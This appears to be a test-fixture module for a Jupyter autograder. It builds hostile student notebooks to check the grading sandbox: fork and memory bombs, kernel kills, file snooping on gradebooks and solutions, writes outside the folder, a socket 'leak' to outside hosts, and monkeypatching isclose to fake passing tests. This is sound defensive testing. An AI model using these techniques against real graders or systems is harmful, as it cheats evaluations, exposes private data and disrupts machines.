@@ -1,0 +1,274 @@
+"""Hostile submissions for the toy assignment (``autograder.demo.write_synthetic_assignment``), built by code.
+
+Each :class:`Hostile` is a submission (notebook JSON or raw bytes) with what grading it must produce: the
+score of every autograded test cell and the event kinds the report must show.  Every hostile notebook starts
+from a *full solution*, then damages one thing, so that "zero for what it breaks" is exact:
+
+toy assignment test cells: ``ex1_unit`` (1 point) and ``ex1_scaling`` (1) test answer ``ex1_answer``;
+``ex2_tests`` (2) tests ``ex2_answer``; ``ex3_tests`` (1) tests ``ex3_answer``.  Full marks: 5 autograded
+points (plus the hand-graded ``q4_answer``).
+
+The file names follow an LMS download (``<student>_00_toy.ipynb``).  :func:`build` writes them into a folder
+and returns the expectations; ``paths`` gives the absolute paths the snooping notebooks try to read or
+write (the course directory, gradebook, solutions, another student's submission, ...).
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+import textwrap
+from dataclasses import dataclass, field
+from pathlib import Path
+import nbformat
+
+from autograder import demo
+
+FULL = {"ex1_unit": 1.0, "ex1_scaling": 1.0, "ex2_tests": 2.0, "ex3_tests": 1.0}
+EX1_BROKEN = {**FULL, "ex1_unit": 0.0, "ex1_scaling": 0.0}
+EX2_BROKEN = {**FULL, "ex2_tests": 0.0}
+FROM_EX2_ON = {**FULL, "ex2_tests": 0.0, "ex3_tests": 0.0}
+ZERO = {k: 0.0 for k in FULL}
+WRONG_EX1 = "def laplace_scale(sensitivity, epsilon):\n    return sensitivity / epsilon + 1.0"
+WRONG_EX2 = "def rr_keep_probability(epsilon):\n    return 0.5"
+
+
+@dataclass
+class Hostile:
+    student: str
+    what: str
+    content: bytes
+    scores: dict[str, float]                  # expected score of each autograded test cell
+    events: set[str] = field(default_factory=set)   # event kinds that must be reported
+    marker: str | None = None                  # printed JSON report of the probe, checked by the tests
+    alt_scores: list[dict[str, float]] = field(default_factory=list)  # other acceptable outcomes
+
+
+def _nb(nb) -> bytes:
+    return nbformat.writes(nb).encode()
+
+
+def _cell_index(nb, grade_id: str) -> int:
+    for i, c in enumerate(nb.cells):
+        if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
+            return i
+    raise KeyError(grade_id)
+
+
+def _probe_code(marker: str, body: str) -> str:
+    """Code that runs ``body`` (which fills the list ``hits``) and prints ``marker`` + JSON(hits)."""
+    return (f"import json as _j, os as _os\nhits = []\n{body}\n"
+            f"print({marker!r} + _j.dumps(hits))\n")
+
+
+def build(dest: Path, full, release, paths: dict[str, str], tcp_port: int) -> list[Hostile]:
+    """Write every hostile submission into ``dest``; return their expectations.
+
+    Args:
+        full: the full-solution notebook (release notebook with answers filled in).
+        release: the untouched student notebook.
+        paths: absolute paths the snooping notebooks go after (keys: ``read_*`` and ``write_*``).
+        tcp_port: a TCP port on 127.0.0.1 where the test listens (the sandbox must not reach it).
+    """
+    dest = Path(dest)
+    dest.mkdir(parents=True, exist_ok=True)
+    cases: list[Hostile] = []
+
+    def add(student, what, content, scores, events=(), marker=None, alt=()):
+        cases.append(Hostile(student, what, content, scores, set(events), marker, list(alt)))
+        (dest / f"{student}_00_toy.ipynb").write_bytes(content)
+
+    ex2 = lambda code: _nb(demo.set_answer(full, "ex2_answer", code, mode="prepend"))  # noqa: E731
+
+    # --- runaway code ---------------------------------------------------------------------------------
+    add("loop", "infinite loop (interruptible)", ex2("while True:\n    pass"), EX2_BROKEN, {"cell_timeout"})
+    add("loopx", "infinite loop that ignores the interrupt",
+        ex2("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"), FROM_EX2_ON,
+        {"kernel_unresponsive"})
+    add("sleeper", "sleeps past the time limit", ex2("import time\ntime.sleep(3600)"), EX2_BROKEN,
+        {"cell_timeout"})
+    # The fork bomb's children are copies of the kernel; whether the kernel survives them varies from run to
+    # run, so its own cell scores zero and the rest either runs or is stopped with a reason.
+    add("forker", "fork bomb", ex2("import os\nwhile True:\n    os.fork()"), EX2_BROKEN, set(),
+        alt=[FROM_EX2_ON])
+    add("hog", "memory bomb", ex2("hog = []\nwhile True:\n    hog.append(bytearray(64 * 1024 * 1024))"),
+        EX2_BROKEN, {"memory_error"})
+    add("flood", "output flood", ex2("for _i in range(60000):\n    print('spam ' * 40)"), FULL,
+        {"output_truncated"})
+    # --- exits --------------------------------------------------------------------------------------
+    add("quitter", "sys.exit()", ex2("import sys\nsys.exit(3)"), EX2_BROKEN)
+    add("exiter", "os._exit()", ex2("import os\nos._exit(0)"), FROM_EX2_ON, {"kernel_died"})
+    add("killer", "kills its own kernel", ex2("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
+        FROM_EX2_ON, {"kernel_died"})
+    add("grpkiller", "kills its own process group",
+        ex2("import os, signal\nos.killpg(os.getpgid(0), signal.SIGKILL)"), FROM_EX2_ON, {"kernel_died"})
+    # --- broken files -------------------------------------------------------------------------------
+    add("garbled", "not valid JSON", b'{"cells": [ this is not json', ZERO, {"invalid_json"})
+    add("jsonish", "JSON but not a notebook", json.dumps({"hello": "world", "cells": 3}).encode(), ZERO,
+        {"not_a_notebook"})
+    huge = nbformat.v4.new_notebook()
+    huge.cells.append(nbformat.v4.new_markdown_cell("x" * (200 * 1024 * 1024)))
+    add("whale", "a 200 MB notebook", _nb(huge), ZERO, {"too_large"})
+    del huge
+    # --- test cells ---------------------------------------------------------------------------------
+    nb = demo.set_answer(full, "ex1_answer", WRONG_EX1)
+    nb.cells = [c for c in nb.cells
+                if c.metadata.get("nbgrader", {}).get("grade_id") not in ("ex1_unit", "ex1_scaling")]
+    add("deleter", "wrong answer, its test cells deleted", _nb(nb), EX1_BROKEN, {"test_cells_changed"})
+    nb = demo.set_answer(full, "ex2_answer", WRONG_EX2)
+    i = _cell_index(nb, "ex2_tests")
+    dup = copy.deepcopy(nb.cells[i])
+    dup.source = "pass"
+    dup2 = copy.deepcopy(dup)
+    dup["id"], dup2["id"] = "dup-after", "dup-before"
+    nb.cells.insert(i + 1, dup)
+    nb.cells.insert(i, dup2)
+    add("duplicator", "wrong answer, its test cell duplicated (copies emptied)", _nb(nb), EX2_BROKEN,
+        {"test_cells_changed"})
+    nb = demo.set_answer(full, "ex2_answer", WRONG_EX2)
+    i = _cell_index(nb, "ex2_tests")
+    nb.cells[i].source = "assert True"
+    nb.cells[i].metadata["nbgrader"]["points"] = 50
+    add("editor", "wrong answer, its test cell edited (and its points raised)", _nb(nb), EX2_BROKEN,
+        {"test_cells_changed"})
+    # --- snooping -----------------------------------------------------------------------------------
+    reads = [v for k, v in paths.items() if k.startswith("read_")]
+    body = textwrap.dedent(f"""
+        for _p in {reads!r}:
+            try:
+                if _os.path.isdir(_p):
+                    hits.append([_p, sorted(_os.listdir(_p))[:5]])
+                else:
+                    with open(_p, 'rb') as _f:
+                        hits.append([_p, len(_f.read(100))])
+            except Exception:
+                pass
+        for _top in ('/tmp', '/work', '/root', '/home', '/srv', '/var', '/mnt', '/opt'):
+            for _root, _dirs, _files in _os.walk(_top):
+                _dirs[:] = [d for d in _dirs if d not in ('.venv', '.pyenv', 'site-packages', '.git')]
+                for _f in _files:
+                    if _f.endswith(('.db', '.ipynb')) or 'HIDDEN' in _f:
+                        hits.append(_os.path.join(_root, _f))
+        """)
+    add("snoop", "reads hidden tests, solutions, the gradebook and others' files",
+        _nb(demo.set_answer(full, "ex1_answer", _probe_code("SNOOP:", body), mode="prepend")), FULL,
+        marker="SNOOP:")
+    writes = [v for k, v in paths.items() if k.startswith("write_")]
+    body = textwrap.dedent(f"""
+        for _p in {writes!r}:
+            try:
+                with open(_p, 'a') as _f:
+                    _f.write('pwned')
+                hits.append(_p)
+            except Exception:
+                pass
+        """)
+    add("vandal", "writes outside its folder",
+        _nb(demo.set_answer(full, "ex1_answer", _probe_code("VANDAL:", body), mode="prepend")), FULL,
+        marker="VANDAL:")
+    body = textwrap.dedent(f"""
+        import socket as _s
+        for _addr in [('127.0.0.1', {tcp_port}), ('1.1.1.1', 53), ('example.org', 80)]:
+            try:
+                _c = _s.create_connection(_addr, timeout=2)
+                _c.sendall(b'leak')
+                _c.close()
+                hits.append(list(_addr))
+            except Exception:
+                pass
+        """)
+    add("caller", "opens network connections",
+        _nb(demo.set_answer(full, "ex1_answer", _probe_code("NET:", body), mode="prepend")), FULL,
+        {"suspicious_code"}, marker="NET:")
+    # --- monkeypatching ------------------------------------------------------------------------------
+    add("patcher", "wrong answer, then monkeypatches numpy.isclose and math.isclose",
+        _nb(demo.set_answer(full, "ex1_answer", WRONG_EX1 + "\nimport math\nimport numpy as np\n"
+                            "np.isclose = lambda *a, **k: True\nmath.isclose = lambda *a, **k: True")),
+        EX1_BROKEN, {"suspicious_code"})
+    add("sneaky", "wrong answer, patches through module dicts, builtins and sys.modules",
+        _nb(demo.set_answer(full, "ex1_answer", WRONG_EX1 + textwrap.dedent("""
+            import builtins, math, sys, types
+            import numpy as np
+            vars(np)['isclose'] = lambda *a, **k: True
+            vars(math)['isclose'] = lambda *a, **k: True
+            builtins.abs = lambda x: 0
+            fake = types.ModuleType('numpy')
+            fake.isclose = lambda *a, **k: True
+            sys.modules['numpy'] = fake
+            np = fake
+            """))), EX1_BROKEN, {"tampering_restored", "suspicious_code"})
+    add("trojan", "wrong answer that patches isclose when the test calls it",
+        _nb(demo.set_answer(full, "ex1_answer", textwrap.dedent("""
+            def laplace_scale(sensitivity, epsilon):
+                import math
+                import numpy
+                vars(math)['isclose'] = lambda *a, **k: True
+                vars(numpy)['isclose'] = lambda *a, **k: True
+                return 0.0
+            """))), EX1_BROKEN, {"tampering_during_test"})
+    add("rewriter", "stub answers, then rewrites every later cell to `pass` (IPython input transformer)",
+        _nb(demo.set_answer(release, "ex1_answer",
+                            "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])",
+                            mode="append")),
+        ZERO, {"tampering_restored", "suspicious_code"})
+    return cases
+
+
+def probe_output(autograded_nb: Path, marker: str) -> list | None:
+    """The JSON list a probe cell printed after ``marker`` in an autograded notebook (None if absent)."""
+    nb = nbformat.read(autograded_nb, as_version=4)
+    for c in nb.cells:
+        for o in c.get("outputs", []):
+            text = o.get("text", "")
+            if marker in text:
+                return json.loads(text.split(marker, 1)[1].splitlines()[0])
+    return None
+
+
+def make_full(course: Path, solutions: Path, name: str = demo.SYNTHETIC_NAME):
+    """(full solution, release) notebooks of the toy assignment in ``course``."""
+    release = demo.student_version(course, name)
+    source = nbformat.read(Path(solutions) / name / f"{name}.ipynb", as_version=4)
+    return demo.full_solution(release, source), release
+
+
+def toy(tmp: Path):
+    """The toy assignment in ``tmp/solutions`` and a course built from it; returns (solutions, course, full, release)."""
+    from autograder.course import make_course
+
+    sols = Path(tmp) / "solutions"
+    demo.write_synthetic_assignment(sols)
+    course = make_course(Path(tmp) / "release-course", [demo.SYNTHETIC_NAME], solutions_dir=sols)
+    full, release = make_full(course, sols)
+    return sols, course, full, release
+
+
+def kernel_uids(output_dir: Path) -> set[int]:
+    """The dedicated uids the kernels of a grading run ran under (from the workers' event logs)."""
+    uids = set()
+    for p in Path(output_dir).glob("work/*/events/*/*/*.json"):
+        uid = json.loads(p.read_text()).get("kernel_uid")
+        if uid is not None:
+            uids.add(int(uid))
+    return uids
+
+
+def kernel_uid_processes(uids: set[int]) -> list[int]:
+    """Live processes owned by one of ``uids`` (there must be none after grading).
+
+    Only the uids of one run are looked at: other tests may be grading at the same time, with kernels of
+    their own.
+    """
+    out = []
+    for p in Path("/proc").iterdir():
+        if p.name.isdigit():
+            try:
+                if p.stat().st_uid in uids:
+                    out.append(int(p.name))
+            except OSError:
+                pass
+    return out
+
+
+__all__ = ["Hostile", "build", "probe_output", "make_full", "toy", "kernel_uids", "kernel_uid_processes", "FULL", "ZERO",
+           "EX1_BROKEN", "EX2_BROKEN", "FROM_EX2_ON"]
